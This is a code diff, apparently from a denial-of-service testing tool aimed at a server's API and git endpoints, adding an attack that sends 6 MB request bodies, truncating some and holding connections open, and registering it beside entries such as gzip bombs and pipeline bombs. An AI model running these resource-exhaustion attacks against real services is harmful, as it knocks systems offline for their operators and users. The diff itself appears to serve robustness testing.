@@ -223,6 +223,31 @@ async def bodies_of_strangers(target: AttackTarget, answers: Answers) -> None:
     await fetch_in_turn(urls, 40, answers, {"Content-Type": "application/json"}, body=slowly)
 
 
+async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
+    """Bodies of 6 MB: some end a megabyte too early, with their connections; others are refused, and their connections
+    stay open without another request."""
+    source = INPUTS["commit-message"]
+    async with session() as http:
+        large = await source.make(target, http, source.largest)
+    fields = {"content_length": str(len(large.body)), "private_token": target.attacker}
+    head = request_head("POST", large.url, content_type="application/json", **fields)
+
+    async with contextlib.AsyncExitStack() as kept:
+
+        async def send(number: int) -> str:
+            if number:
+                reader, writer = await kept.enter_async_context(connected(large.url))
+                writer.write(head + large.body)
+                return await status_of(reader)
+            async with connected(large.url) as (_, writer):
+                writer.write(head + large.body[:-MEGABYTE])
+                await writer.drain()
+                await asyncio.sleep(0.1)
+                return "ended"
+
+        await repeat(3, send, answers)
+
+
 async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
     """Ten gigabytes of nothing in ten megabytes, to the API and to git."""
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
@@ -334,6 +359,7 @@ ATTACKS: dict[str, Attack] = {
     "idle-connections": idle_connections,
     "unread-answers": unread_answers,
     "bodies-of-strangers": bodies_of_strangers,
+    "kept-bodies": kept_bodies,
     "gzip-bombs": gzip_bombs,
     "pipeline-bomb": pipeline_bomb,
     "abandoned-archives": abandoned_archives,
